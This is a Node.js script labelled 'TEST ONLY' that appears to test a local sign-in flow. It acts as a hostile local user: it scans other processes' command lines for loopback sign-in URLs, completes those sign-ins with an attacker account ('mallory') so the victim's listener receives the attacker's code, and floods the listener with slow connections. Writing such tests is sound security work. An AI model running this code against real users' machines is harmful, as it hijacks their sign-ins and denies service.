// TEST ONLY. Another local user against a victim's sign-in, as fast as Node can go.
//
//   node sign-in-attacker.mjs inject BROWSER_HELPER LOG SECONDS
//     Polls every process's argv (/proc/*/cmdline) for a sign-in address. For each new one:
//     a file:// page is read (to find the start address in it); an http:// address on
//     loopback is requested first (no redirects followed); a redirect to an authorisation
//     page is then signed in with the attacker's own account (BROWSER_LOGIN=mallory)
//     through BROWSER_HELPER, which delivers the code to the victim's listener.
//   node sign-in-attacker.mjs flood PORT LOG SECONDS
//     Keeps 64 slow connections open to 127.0.0.1:PORT (one byte a second), reopening each
//     as soon as it is cut; notes how many it has opened every half second.
//
// Every attempt and its outcome is appended to LOG as a JSON line.

import fs from 'node:fs';
import net from 'node:net';
import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';

const [mode, arg, log, seconds] = process.argv.slice(2);
const end = Date.now() + Number(seconds) * 1000;
const note = (o) => fs.appendFileSync(log, `${JSON.stringify({ at: Date.now(), ...o })}\n`);

function tryStart(url) {
  const r = spawnSync('curl', ['-s', '-o', '/dev/null', '-m', '5', '-w', '%{http_code} %{redirect_url}', url], { encoding: 'utf8' });
  const [status, location] = (r.stdout || '').split(' ');
  note({ requested: url.replace(/[0-9a-f]{32}/, '<secret>'), status });
  if (status === '302' && location) {
    const b = spawnSync(process.execPath, [arg, location], {
      encoding: 'utf8', timeout: 20_000, env: { ...process.env, BROWSER_LOGIN: 'mallory' },
    });
    note({ signedInAsMallory: b.status === 0, browser: (b.stderr || '').trim() });
  }
}

function attack(a) {
  if (a.startsWith('file:')) {
    let html;
    try {
      html = fs.readFileSync(fileURLToPath(a), 'utf8');
    } catch (e) {
      note({ seen: 'file', read: e.code });
      return;
    }
    note({ seen: 'file', read: 'ok' });
    const m = /http:\/\/127\.0\.0\.1:\d+\/start\/[0-9a-f]+/.exec(html);
    if (m) tryStart(m[0]);
    return;
  }
  note({ seen: 'http' });
  tryStart(a);
}

if (mode === 'flood') {
  const port = Number(arg);
  let opened = 0;
  const open = () => {
    if (Date.now() > end) return;
    const s = net.connect(port, '127.0.0.1', () => {
      opened += 1;
      s.write(`GET /callback HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
    });
    const drip = setInterval(() => s.write('X'), 1000);
    s.on('error', () => {});
    s.on('close', () => { clearInterval(drip); setTimeout(open, 20); });
  };
  for (let i = 0; i < 64; i += 1) open();
  setInterval(() => note({ opened }), 500);
  setTimeout(() => process.exit(0), Number(seconds) * 1000);
} else if (mode === 'inject') {
  const seen = new Set();
  let scans = 0;
  while (Date.now() < end) {
    scans += 1;
    for (const pid of fs.readdirSync('/proc')) {
      if (!/^\d+$/.test(pid) || pid === String(process.pid)) continue;
      let argv;
      try { argv = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').split('\0'); } catch { continue; }
      for (const a of argv) {
        if (!/^(file:\/\/|https?:\/\/(127\.0\.0\.1|localhost|\[::1\]))/.test(a) || seen.has(a)) continue;
        seen.add(a);
        attack(a);
      }
    }
  }
  note({ scans });
} else {
  process.stderr.write('usage: sign-in-attacker.mjs inject|flood ...\n');
  process.exit(2);
}
